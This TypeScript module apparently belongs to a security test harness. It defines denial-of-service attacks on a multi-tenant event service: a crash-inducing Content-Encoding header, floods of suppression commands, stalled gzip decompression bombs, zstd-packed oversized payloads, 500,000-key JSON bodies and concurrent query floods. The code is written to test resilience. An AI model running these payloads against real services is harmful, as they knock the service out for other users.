/** Attacks that stop or starve the service for everybody: the process, the responder, the room for bodies, the threads. */
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { constants, gzipSync, zstdCompressSync } from 'node:zlib'
import { numbersOf } from '../hour/victim.ts'
import { choice, otlpBody } from '../records.ts'
import { type Attack, held, outcome, succeeded } from './attack.ts'
import type { Answer, Target } from './target.ts'

const DAY_MS = 86_400_000
const MEBIBYTE = 1024 * 1024
/** CPU that one small request may cost, in s. What it costs where the attack succeeds is many times that. */
const CPU_S_MAX = 5
/** How long a costly request is let run. */
const COSTLY_MS_MAX = 120_000
const SUPPRESSIONS = 2_240
const LOOKS = 6
const LOOK_MS = 15_000
const QUESTIONS = 100
/** As long as a reason may be. */
const WHY_CHARS = 512

const PACKED = { 'content-encoding': 'zstd' }
const honest = (target: Target): Promise<Answer> => target.send('sends', [{ identity: 'honest', action: 'read_file' }])

const header: Attack = {
  id: 'header',
  kind: 1,
  title: 'Content-Encoding: constructor',
  async run(target) {
    await target.post('stranger', '/v1/events', '[]', { headers: { 'content-encoding': 'constructor' } })
    const { status } = await honest(target)
    return outcome(status === 0, 'the process ended', `the next sender is answered ${status}`)
  },
}

/** Words that no compression makes short. */
const reasonOf = (seed: number): string => {
  const below = numbersOf(seed + 1)
  return String.fromCharCode(...Array.from({ length: WHY_CHARS }, () => 97 + below(26)))
}

const suppressions: Attack = {
  id: 'suppressions',
  kind: 2,
  title: '2,240 suppressions by an analyst of one tenant',
  async run(target) {
    const until = new Date(Date.now() + DAY_MS).toISOString()
    const suppress = (n: number): Promise<Answer> => {
      const agent = `${n}-${'a'.repeat(200)}`
      const body = { type: 'suppress', detector: 'lateral/recon-burst', agent, reason: reasonOf(n), until }
      return target.post('analyst', '/v1/commands', JSON.stringify(body))
    }
    let taken = 0
    let said: Answer = { status: 0, body: '' }
    for (let n = 0; n < SUPPRESSIONS; n += 8) {
      const answers = await Promise.all(Array.from({ length: 8 }, (_, k) => suppress(n + k)))
      said = answers[0] ?? said
      taken += answers.filter(({ status }) => status === 202).length
    }
    if (taken === 0) throw new Error(`no suppression is taken: ${said.body.slice(0, 300)}`)
    // They are carried out one after the other, and what they grow is too much at some time.
    const told = `${taken} taken; another tenant's quarantine`
    for (let n = 0; n < LOOKS; n++) {
      if (n === LOOKS - 1 && !(await target.restart())) return succeeded(`${taken} taken; it does not start again`)
      const identity = `victim-${n}`
      await target.post('asks', '/v1/quarantines', JSON.stringify({ identity, reason: 'stolen', force: true }))
      if (!(await target.comes('/v1/quarantines', (one) => one['identity'] === identity)))
        return succeeded(`${told} is not carried out`)
      await sleep(LOOK_MS)
    }
    return held(`${told} is carried out`)
  },
}

/** The beginning of a gzip stream that unfolds to so many bytes, flushed and not ended. */
const unfinished = (bytes: number): Buffer =>
  gzipSync(Buffer.alloc(bytes, ' '), { finishFlush: constants.Z_SYNC_FLUSH })

async function stall(target: Target, body: Buffer): Promise<Socket> {
  const socket = connect(target.service().plan.port, '127.0.0.1')
  socket.on('error', () => undefined)
  await once(socket, 'connect')
  socket.write(
    `POST /v1/events HTTP/1.1\r\nhost: x\r\nauthorization: ${target.headerOf('stranger')}\r\ncontent-type: application/json\r\ncontent-encoding: gzip\r\ncontent-length: 9999999\r\n\r\n`,
  )
  socket.write(body)
  return socket
}

const stalls: Attack = {
  id: 'stalls',
  kind: 3,
  title: 'Two bodies that unfold to 64 MiB and stop',
  async run(target) {
    const body = unfinished(64 * MEBIBYTE)
    const sockets = await Promise.all([stall(target, body), stall(target, body)])
    let refused = 0
    const TRIES = 40
    for (let n = 0; n < TRIES; n++) {
      if ((await honest(target)).status !== 200) refused++
      await sleep(100)
    }
    for (const socket of sockets) socket.destroy()
    return outcome(refused > 0, `${refused} of ${TRIES} requests of another tenant refused`)
  },
}

/** What one request costs the process, until it is answered or given up. */
async function cost(
  target: Target,
  path: string,
  body: string,
): Promise<{ cpu: number; bytes: number; answer: Answer }> {
  const packed = zstdCompressSync(body)
  const before = target.cpuSeconds()
  const answer = await target.post('stranger', path, packed, { headers: PACKED, msMax: COSTLY_MS_MAX })
  return { cpu: target.cpuSeconds() - before, bytes: packed.length, answer }
}

const costly = (id: string, title: string, path: string, body: () => string): Attack => ({
  id,
  kind: 4,
  title,
  async run(target) {
    const { cpu, bytes, answer } = await cost(target, path, body())
    const said = `${bytes} bytes cost ${cpu.toFixed(1)} s of CPU${answer.status === 0 ? ' in two minutes and had no answer' : `, answered ${answer.status}`}`
    return outcome(cpu > CPU_S_MAX, said)
  },
})

const emptyCalls = costly('empty-calls', 'One record with 100,000 empty calls', '/v1/logs', () =>
  otlpBody([choice(100_000)]),
)

const million: Attack = {
  id: 'million-events',
  kind: 4,
  title: '10,000 records of 100 calls: a million events',
  async run(target) {
    const record = JSON.stringify(choice(100))
    const body = otlpBody([]).replace('"logRecords":[]', `"logRecords":[${Array(10_000).fill(record).join(',')}]`)
    const { cpu, bytes, answer } = await cost(target, '/v1/logs', body)
    const said = `${bytes} bytes, ${answer.status === 0 ? 'no answer in two minutes' : `answered ${answer.status}`}, ${cpu.toFixed(1)} s of CPU`
    return answer.status === 413 ? held(said) : succeeded(said)
  },
}

const distinctKeys: Attack = {
  id: 'distinct-keys',
  kind: 4,
  title: '500,000 keys that are all different',
  async run(target) {
    const keys = Array.from({ length: 500_000 }, (_, n) => `"key-${n}":1`).join(',')
    const body = `[{"identity":"a","action":"read_page","arguments":{${keys}}}]`
    const { cpu, answer } = await cost(target, '/v1/events', body)
    return outcome(answer.status !== 413, `answered ${answer.status || 'not'}, ${cpu.toFixed(1)} s of CPU`)
  },
}

const questions: Attack = {
  id: 'questions',
  kind: 14,
  title: '100 questions of an analyst at once',
  async run(target) {
    const batch = Array.from({ length: 1_000 }, (_, n) => ({ identity: `w-${n % 50}`, action: `read_${n % 30}` }))
    for (let n = 0; n < 10; n++) await target.send('stranger', batch)
    await target.send('sends', batch.slice(0, 10))
    await target.comes('/v1/events', () => true)
    let answered = 0
    const theirs = Array.from({ length: QUESTIONS }, () =>
      target.get('analyst', '/v1/events?limit=1000').then(() => answered++),
    )
    await sleep(50)
    const mine = await target.get('asks', '/v1/events?limit=10')
    const before = answered
    await Promise.all(theirs)
    const said = `another tenant's question was answered ${mine.status} after ${before} of them`
    return outcome(mine.status !== 200 || before > QUESTIONS / 2, said)
  },
}

export const STOPPING: readonly Attack[] = [header, suppressions, stalls, emptyCalls, million, distinctKeys, questions]
